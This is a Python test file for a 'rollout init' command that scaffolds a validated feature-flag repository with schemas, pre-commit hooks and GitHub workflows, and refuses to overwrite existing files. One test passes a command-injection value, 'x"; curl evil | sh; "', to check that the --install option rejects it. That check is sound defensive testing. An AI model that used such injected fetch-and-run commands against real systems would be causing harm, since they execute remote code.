"""``rollout init``: a new repository that validates at once, and never an overwrite."""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

from tests.conftest import PROJECT, cli_env, git, run_cli


def tree(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes()
            for p in sorted(root.rglob("*")) if p.is_file() and ".git/" not in p.as_posix()}


def test_init_scaffolds_a_repository_that_validates(tmp_path: Path) -> None:
    root = tmp_path / "flags-repo"
    out = run_cli(["init", str(root)], cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    files = tree(root)
    assert {"pyproject.toml", "flags/new_checkout.yaml", "rollouts/new_checkout.yaml",
            ".pre-commit-config.yaml", ".github/workflows/validate.yml",
            ".github/workflows/advance.yml", ".github/workflows/control.yml",
            "schemas/flag.schema.json", "schemas/rollout.schema.json"} <= set(files)
    valid = run_cli(["validate"], cwd=root)
    assert valid.returncode == 0, valid.stdout + valid.stderr
    # the editors' schema references resolve inside the new repository
    for rel in ("flags/new_checkout.yaml", "rollouts/new_checkout.yaml"):
        first = (root / rel).read_text().splitlines()[0]
        assert first.startswith("# yaml-language-server: $schema=../schemas/")
        target = (root / rel).parent / first.split("$schema=", 1)[1]
        assert target.resolve().is_file()
    # the schemas are this version's, byte for byte
    assert files["schemas/flag.schema.json"] == (PROJECT / "schemas/flag.schema.json").read_bytes()
    # the workflows install this version of rollout-runner and still pass the checks
    advance = files[".github/workflows/advance.yml"].decode()
    assert 'pip install --disable-pip-version-check "rollout-runner==' in advance
    workflows = [str(p) for p in (root / ".github/workflows").glob("*.yml")]
    assert subprocess.run(["zizmor", "--offline", *workflows], capture_output=True).returncode == 0
    assert subprocess.run(["check-jsonschema", "--builtin-schema", "vendor.github-workflows",
                           *workflows], capture_output=True).returncode == 0


def test_init_refuses_to_overwrite_and_writes_nothing(tmp_path: Path) -> None:
    root = tmp_path / "existing"
    (root / "rollouts").mkdir(parents=True)
    (root / "rollouts/new_checkout.yaml").write_text("flag: mine\nstrategy: safe\n")
    before = tree(root)
    out = run_cli(["init", str(root)], cwd=tmp_path)
    assert out.returncode == 1
    assert "rollouts/new_checkout.yaml already exists" in out.stderr
    assert tree(root) == before
    assert not (root / "flags").exists() and not (root / "pyproject.toml").exists()


def test_init_in_the_current_folder_and_usage_error(tmp_path: Path) -> None:
    out = run_cli(["init"], cwd=tmp_path)
    assert out.returncode == 0 and (tmp_path / "flags/new_checkout.yaml").is_file()
    (tmp_path / "a-file").write_text("x")
    out = run_cli(["init", "a-file"], cwd=tmp_path)
    assert out.returncode == 2 and "not a folder" in out.stderr


def test_pre_commit_hook_of_the_scaffold_rejects_a_bad_flag(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    assert run_cli(["init", str(root)], cwd=tmp_path).returncode == 0
    # `rollout` as pip would install it: a console script on PATH
    bindir = tmp_path / "bin"
    bindir.mkdir()
    shim = bindir / "rollout"
    shim.write_text(f"#!/bin/sh\nexec {sys.executable} -m runner \"$@\"\n")
    shim.chmod(shim.stat().st_mode | stat.S_IXUSR)
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "scaffold")
    (root / "flags/broken.yaml").write_text(
        "key: broken\ndescription: x\nowner: y\nrisk: extreme\n")
    git(root, "add", "flags/broken.yaml")
    env = cli_env({"PATH": f"{bindir}{os.pathsep}{os.environ['PATH']}",
                   "PRE_COMMIT_HOME": str(tmp_path / "pre-commit-home")})
    pre_commit = shutil.which("pre-commit")
    assert pre_commit, "pre-commit is not installed"
    out = subprocess.run([pre_commit, "run", "--files", "flags/broken.yaml"], cwd=root, env=env,
                         capture_output=True, text=True, timeout=120)
    assert out.returncode == 1, out.stdout + out.stderr
    assert "flags/broken.yaml:4:" in out.stdout and "risk" in out.stdout


def test_init_install_names_where_the_workflows_get_rollout_runner(tmp_path: Path) -> None:
    # until rollout-runner is on the package index, the workflows must install it from
    # where the organisation hosts it
    spec = "git+https://github.com/acme/rollout-runner@v0.1.0"
    root = tmp_path / "hosted"
    out = run_cli(["init", "--install", spec, str(root)], cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    workflows = sorted((root / ".github/workflows").glob("*.yml"))
    for wf in workflows:
        assert f'pip install --disable-pip-version-check "{spec}"' in wf.read_text()
        assert "rollout-runner==" not in wf.read_text()
    assert subprocess.run(["check-jsonschema", "--builtin-schema", "vendor.github-workflows",
                           *map(str, workflows)], capture_output=True).returncode == 0
    # anything that could break out of the shell word is refused before writing
    bad = tmp_path / "bad"
    out = run_cli(["init", "--install", 'x"; curl evil | sh; "', str(bad)], cwd=tmp_path)
    assert out.returncode == 2 and "--install" in out.stderr
    assert not bad.exists()
